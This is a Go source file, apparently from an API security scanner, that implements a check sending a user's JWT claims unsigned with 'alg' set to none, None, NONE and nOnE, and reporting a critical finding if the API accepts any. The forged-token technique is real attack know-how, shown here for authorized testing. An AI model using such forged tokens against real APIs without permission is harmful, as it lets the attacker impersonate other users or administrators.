package authn

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"

	"github.com/rampartsec/rampart/internal/attack/checks/probe"
	"github.com/rampartsec/rampart/internal/attack/core"
)

// JWTNoneCheck sends the profile's own claims unsigned, as "alg": "none".
type JWTNoneCheck struct{}

// ID implements core.Check.
func (JWTNoneCheck) ID() string { return "authn.jwt_none" }

// Stage implements core.Check.
func (JWTNoneCheck) Stage() core.Stage { return core.StageAuthn }

// Title implements core.Check.
func (JWTNoneCheck) Title() string { return "JWT with \"alg\": \"none\"" }

// noneVariants are the spellings libraries have been caught accepting
// (CVE-2015-9235 and its kin): some compare case-sensitively to "none" only.
var noneVariants = []string{"none", "None", "NONE", "nOnE"}

// Plan implements core.Check.
func (c JWTNoneCheck) Plan(s *core.Scan) []core.PlannedRequest {
	return []core.PlannedRequest{referencePlan(s), {Endpoint: "reference endpoint", Class: "user1's claims unsigned with alg none, None, NONE, nOnE", Count: len(noneVariants)}}
}

// Run implements core.Check.
func (c JWTNoneCheck) Run(ctx context.Context, s *core.Scan) error {
	r, err := jwtReference(ctx, s, c.ID())
	if err != nil {
		return err
	}
	var accepted []string
	var first *core.Response
	var firstHeader string
	for _, v := range noneVariants {
		h := r.tok.withHeader(map[string]any{"alg": v})
		raw, _ := json.Marshal(h)
		resp, err := r.send(ctx, s, c.ID(), encodeSegment(h)+"."+r.tok.payloadSeg+".")
		if probe.Stopped(ctx, err) {
			s.Cover(r.op.Key(), c.ID(), core.NotReached, err.Error())
			return err
		}
		if err == nil && r.accepted(resp) {
			accepted = append(accepted, v)
			if first == nil {
				first, firstHeader = resp, string(raw)
			}
		}
	}
	s.CoverAs(r.op.Key(), c.ID(), core.Tested, "", r.cred.profile)
	if first == nil {
		return nil
	}
	s.Report(r.finding(c.ID(), forged{
		title:    "Unsigned JWT accepted (\"alg\": \"none\")",
		cwe:      347,
		severity: core.SeverityCritical,
		description: fmt.Sprintf("The API accepted %s's claims with no signature at all, \"alg\" spelt %s. "+
			"Anyone can write any claims (another user's sub, an admin role) and be that user.",
			r.cred.profile, strings.Join(accepted, ", ")),
		setup: b64url + "\n" + `RAMPART_SECRET="$(` + printfJSON(firstHeader) + ` | b64url).` + tokenPart(r.cred.profile, "2") + `."`,
		resp:  first,
		note:  "forged token: header " + firstHeader + ", the real token's claims, empty signature",
	}))
	return nil
}
